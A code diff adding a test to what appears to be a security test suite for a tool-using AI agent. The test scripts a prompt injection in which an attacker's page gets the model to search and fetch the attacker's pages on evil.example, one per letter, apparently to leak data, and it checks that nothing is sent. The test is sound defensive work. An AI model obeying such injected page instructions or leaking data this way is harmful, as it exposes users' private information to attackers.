@@ -250,6 +250,17 @@ async def test_addresses_within_the_words_of_a_hit_are_none_that_were_found(
     assert out.sent == []
 
 
+async def test_a_search_that_somebody_else_chose_finds_nothing_to_be_read(
+    out: Sent, tmp_path: Path
+):
+    """An attacker's page has the model search for its own pages, one for each letter."""
+    out.hits = [Hit("B", "https://evil.example/b", "The letter b.")]
+    get = calls(("get", {"url": "https://evil.example/b"}))
+    search = calls(("web_search", {"query": "site:evil.example letters"}))
+    await act(out.agent(PAGE, search, calls(("inbox", {})), get), folder=tmp_path)
+    assert out.sent == []
+
+
 # Labels that get lost on the way
 
 
